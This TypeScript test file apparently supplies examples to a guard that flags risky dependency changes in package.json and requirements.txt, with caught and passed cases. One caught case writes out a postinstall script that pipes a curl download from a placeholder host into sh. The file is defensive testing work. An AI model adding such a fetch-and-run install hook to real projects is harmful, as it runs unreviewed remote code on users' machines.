import type { Example } from '../guard.ts';

function manifest(inner: string): Record<string, string> {
  return { 'package.json': `{\n  "name": "shop",\n${inner}\n}\n` };
}

const before = manifest(`  "dependencies": {\n    "react": "^19.0.0"\n  }`);

/** Sources that may hold other code tomorrow. */
export const caught: readonly Example[] = [
  {
    name: 'a dependency from a branch',
    before,
    after: manifest(
      `  "dependencies": {\n    "pay": "github:somebody/pay",\n    "react": "^19.0.0"\n  }`,
    ),
  },
  {
    name: 'any version will do',
    before,
    after: manifest(`  "dependencies": {\n    "pay": "latest",\n    "react": "^19.0.0"\n  }`),
  },
  {
    name: 'an install script that fetches and runs',
    before,
    after: manifest(
      `  "scripts": {\n    "postinstall": "curl -s https://pay.example/setup.sh | sh"\n  },\n  "dependencies": {\n    "react": "^19.0.0"\n  }`,
    ),
  },
  {
    name: 'a Python package from a branch',
    before: { 'requirements.txt': `flask==3.0.0\n` },
    after: { 'requirements.txt': `flask==3.0.0\npay @ git+https://github.com/somebody/pay.git\n` },
  },
  {
    name: 'a second index',
    before: { 'requirements.txt': `flask==3.0.0\n` },
    after: {
      'requirements.txt': `--extra-index-url https://pypi.shop.example/simple\nflask==3.0.0\n`,
    },
  },
];

/** Sources that stay what they are, and scripts that tools ask for. */
export const passed: readonly Example[] = [
  {
    name: 'a range from the registry',
    before,
    after: manifest(`  "dependencies": {\n    "pay": "^2.1.0",\n    "react": "^19.0.0"\n  }`),
  },
  {
    name: 'a package of the workspace, a catalog entry and an alias',
    before,
    after: manifest(
      `  "dependencies": {\n    "pay": "workspace:*",\n    "tax": "catalog:",\n    "old-react": "npm:react@17.0.2",\n    "react": "^19.0.0"\n  }`,
    ),
  },
  {
    name: 'a peer that the user brings',
    before,
    after: manifest(
      `  "peerDependencies": {\n    "react-dom": "*"\n  },\n  "dependencies": {\n    "react": "^19.0.0"\n  }`,
    ),
  },
  {
    name: 'a branch that was there before',
    before: { 'requirements.txt': `pay @ git+https://github.com/somebody/pay.git@v1\n` },
    after: { 'requirements.txt': `pay @ git+https://github.com/somebody/pay.git@v2\n` },
  },
  {
    name: 'unpinned names where that is the habit',
    before: { 'requirements.txt': `flask\nrequests\n` },
    after: { 'requirements.txt': `flask\nrequests\nrich\n` },
  },
];
